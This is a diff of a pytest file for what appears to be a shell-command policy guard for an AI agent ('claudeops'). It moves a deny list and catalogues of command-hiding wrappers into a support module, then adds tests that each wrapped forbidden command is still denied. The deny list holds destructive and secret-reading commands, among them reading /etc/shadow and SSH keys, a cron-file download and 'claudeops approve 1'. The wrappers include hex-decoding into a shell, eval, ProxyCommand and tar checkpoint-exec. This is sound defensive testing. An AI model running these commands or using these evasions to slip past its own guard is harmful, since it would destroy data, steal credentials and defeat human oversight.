@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import itertools
-import shlex
-from typing import TYPE_CHECKING
 
 import pytest
 from hypothesis import given
@@ -12,157 +10,7 @@ from hypothesis import strategies as st
 
 from claudeops.domain.model import VerdictKind
 from support.policy_cases import judged, rows
-
-if TYPE_CHECKING:
-    from collections.abc import Callable
-
-FORBIDDEN = (
-    "rm -rf /data",
-    "docker rm -f web",
-    "docker volume rm data",
-    "docker compose down -v",
-    "docker restart",
-    "docker restart claudeops",
-    "docker -H tcp://x ps",
-    "docker inspect web",
-    "docker run --privileged alpine",
-    "systemctl poweroff",
-    "systemctl restart networking",
-    "reboot",
-    "iptables -F",
-    "kill -9 1",
-    "cat /etc/shadow",
-    "cat /root/.ssh/id_rsa",
-    "cat /proc/1/environ",
-    "env",
-    "kubectl get secret db -o yaml",
-    "kubectl delete namespace media",
-    "curl -X POST http://x/",
-    "curl -o /etc/cron.d/x http://x/",
-    "curl http://169.254.169.254/",
-    "git push --force",
-    "python3 -c 1",
-    "ssh -oProxyCommand=x host ls",
-    "find / -name x -delete",
-    "sed -i s/a/b/ /etc/hosts",
-    "tee /etc/hosts",
-    "claudeops approve 1",
-)
-
-
-def quoted(command: str) -> str:
-    return shlex.quote(command)
-
-
-def split_up(command: str) -> str:
-    """Return the command with its name in pieces."""
-    name, blank, rest = command.partition(" ")
-    return f"{name[0]}'{name[1:2]}'\"{name[2:]}\"{blank}{rest}"
-
-
-TRANSPARENT: dict[str, Callable[[str], str]] = {
-    "itself": lambda c: c,
-    "double space": lambda c: c.replace(" ", "  "),
-    "continued line": lambda c: c.replace(" ", " \\\n "),
-    "split name": split_up,
-    "ansi name": lambda c: f"$'\\x{ord(c[0]):02x}'{c[1:]}" if c[0].isalpha() else c,
-    "backslash": lambda c: f"\\{c}",
-    "absolute path": lambda c: f"/usr/bin/{c}",
-    "sudo": lambda c: f"sudo {c}",
-    "sudo user": lambda c: f"sudo -n -u root -- {c}",
-    "env": lambda c: f"env LC_ALL=C {c}",
-    "assignment": lambda c: f"LC_ALL=C {c}",
-    "nice": lambda c: f"nice -n 5 {c}",
-    "timeout": lambda c: f"timeout -k 5 30 {c}",
-    "nohup": lambda c: f"nohup {c}",
-    "time": lambda c: f"time {c}",
-    "command": lambda c: f"command {c}",
-    "after cd": lambda c: f"cd /srv && {c}",
-    "after semicolon": lambda c: f"uptime; {c}",
-    "after newline": lambda c: f"uptime\n{c}",
-    "after comment": lambda c: f"uptime # {c}\n{c}",
-    "after or": lambda c: f"uptime || {c}",
-    "before pipe": lambda c: f"{c} | cat",
-    "after pipe": lambda c: f"uptime | {c}",
-    "subshell": lambda c: f"({c})",
-    "group": lambda c: f"{{ {c}; }}",
-    "negated": lambda c: f"! {c}",
-    "if": lambda c: f"if {c}; then uptime; fi",
-    "then": lambda c: f"if uptime; then {c}; fi",
-    "else": lambda c: f"if uptime; then uptime; else {c}; fi",
-    "for": lambda c: f"for i in 1 2; do {c}; done",
-    "case": lambda c: f"case a in b) uptime;; *) {c};; esac",
-    "function": lambda c: f"f() {{ {c}; }}; f",
-    "substitution": lambda c: f"echo $({c})",
-    "quoted substitution": lambda c: f'echo "now: $({c})"',
-    "substitution in a substitution": lambda c: f'echo "$(echo "$({c})")"',
-    "process substitution": lambda c: f"cat <({c})",
-    "output substitution": lambda c: f"uptime > >({c})",
-    "assigned": lambda c: f"x=$({c}); uptime",
-    "tested": lambda c: f'[ -n "$({c})" ]',
-    "double test": lambda c: f"[[ -n $({c}) ]]",
-    "here-document": lambda c: f"cat <<EOF\n$({c})\nEOF",
-    "here-string": lambda c: f'cat <<< "$({c})"',
-    "after here-document": lambda c: f"cat <<'EOF'\nx\nEOF\n{c}",
-    "bash -c": lambda c: f"bash -c {quoted(c)}",
-    "sh -ec": lambda c: f"sh -ec {quoted(f'uptime; {c}')}",
-    "bash document": lambda c: f"bash <<'EOF'\n{c}\nEOF",
-    "bash string": lambda c: f"bash <<< {quoted(c)}",
-    "eval": lambda c: f"eval {quoted(c)}",
-    "ssh": lambda c: f"ssh -o BatchMode=yes root@host {quoted(c)}",
-    "ssh document": lambda c: f"ssh host bash -s <<'EOF'\n{c}\nEOF",
-    "docker exec": lambda c: f"docker exec -i web sh -c {quoted(c)}",
-    "kubectl exec": lambda c: f"kubectl exec -n media web-0 -- sh -c {quoted(c)}",
-    "known variable": lambda c: f"x=1; {c}",
-    "discarded": lambda c: f"{c} > /dev/null 2>&1",
-}
-"""Ways that run a command as it is: what may run stays allowed, what may not stays denied."""
-
-OPAQUE: dict[str, Callable[[str], str]] = {
-    "echo into a shell": lambda c: f"echo {quoted(c)} | bash",
-    "decoded into a shell": lambda c: f"echo {c.encode().hex()} | xxd -r -p | sh",
-    "variable from the environment": lambda c: f'bash -c "$X" {quoted(c)}',
-    "substitution as command": lambda c: f"$(echo {quoted(c)})",
-    "background": lambda c: f"{c} &",
-    "trap": lambda c: f"trap {quoted(c)} EXIT",
-    "alias": lambda c: f"alias ls={quoted(c)}; ls",
-    "exec": lambda c: f"exec {c}",
-    "coproc": lambda c: f"coproc {c}",
-    "setsid": lambda c: f"setsid {c}",
-    "env -S": lambda c: f"env -S {quoted(c)}",
-    "xargs": lambda c: f"echo x | xargs {c}",
-    "xargs shell": lambda c: f"echo x | xargs -I% sh -c {quoted(c + ' %')}",
-    "python": lambda c: f"python3 -c {quoted(f'import os; os.system({c!r})')}",
-    "awk": lambda c: f"awk 'BEGIN {{ system(\"{c}\") }}'",
-    "tee": lambda c: f"echo {quoted(c)} | tee >(bash)",
-    "path": lambda c: f"PATH=/work/s1 {c}",
-    "exported": lambda c: f"export PATH=/work/s1; {c}",
-    "parameter default": lambda c: f"x=1; echo ${{y:-$({c})}}",
-    "parameter pattern": lambda c: f"x=1; echo ${{x#$({c})}}",
-    "array index": lambda c: f"x[$({c})]=1",
-    "arithmetic": lambda c: f"echo $(( $({c}) ))",
-    "at": lambda c: f"at now <<< {quoted(c)}",
-    "busybox": lambda c: f"busybox {c}",
-    "su": lambda c: f"su -c {quoted(c)}",
-    "watch": lambda c: f"watch {quoted(c)}",
-    "ssh option": lambda c: f"ssh -o {quoted(f'ProxyCommand={c}')} host uptime",
-    "command not found": lambda c: f"command_not_found_handle() {{ {c}; }}; nosuch",
-    "shadowed": lambda c: f"uptime() {{ {c}; }}; time uptime",
-    "carriage return": lambda c: f"uptime\r{c}",
-    "tar": lambda c: f"tar cf /x /y --checkpoint=1 --checkpoint-action=exec={quoted(c)}",
-}
-"""Ways that nothing may use."""
-
-REPEATING: dict[str, Callable[[str], str]] = {
-    "while": lambda c: f"while uptime; do {c}; done",
-    "until": lambda c: f"until uptime; do {c}; done",
-    "for of unknown length": lambda c: f"for i in $(uptime); do {c}; done",
-    "find": lambda c: f"find /srv -name x -exec {c} \\;",
-    "piped into a loop": lambda c: f"uptime | while read -r line; do {c}; done",
-}
-"""Ways that run a command nobody knows how often: looks may pass, actions may not."""
-
-ALL = {**TRANSPARENT, **OPAQUE, **REPEATING}
+from support.wrapping import ALL, FORBIDDEN, OPAQUE, REPEATING, TRANSPARENT
 
 
 def allowed(command: str) -> bool:
@@ -267,3 +115,25 @@ def test_a_text_without_sense_gets_an_answer(text: str) -> None:
 def test_a_damaged_command_gets_an_answer(command: str, at: int, piece: str) -> None:
     cut = at % (len(command) + 1)
     assert judged(command[:cut] + piece + command[cut:], 3).reason
+
+
+UNREADABLE = {"python3 -c 1", "perl -e 1"}
+
+
+@pytest.mark.parametrize("wrapping", TRANSPARENT)
+def test_nobody_is_asked_about_what_is_clearly_forbidden(wrapping: str) -> None:
+    verdicts = {command: judged(TRANSPARENT[wrapping](command), 3).kind for command in FORBIDDEN}
+    asked = {command for command, kind in verdicts.items() if kind is not VerdictKind.DENY}
+    assert asked <= UNREADABLE
+
+
+@pytest.mark.parametrize("command", FORBIDDEN)
+def test_nothing_hides_behind_what_cannot_be_understood(command: str) -> None:
+    """Beside an unclear part the rest is judged all the same, and the strictest part decides."""
+    for text in (
+        f"$TOOL ps; {command}",
+        f"{command} $UNSET",
+        f'echo "$UNSET" | {command}',
+        f"x=$(( y + 1 )); {command}",
+    ):
+        assert judged(text, 3).kind is VerdictKind.DENY or command in UNREADABLE, text
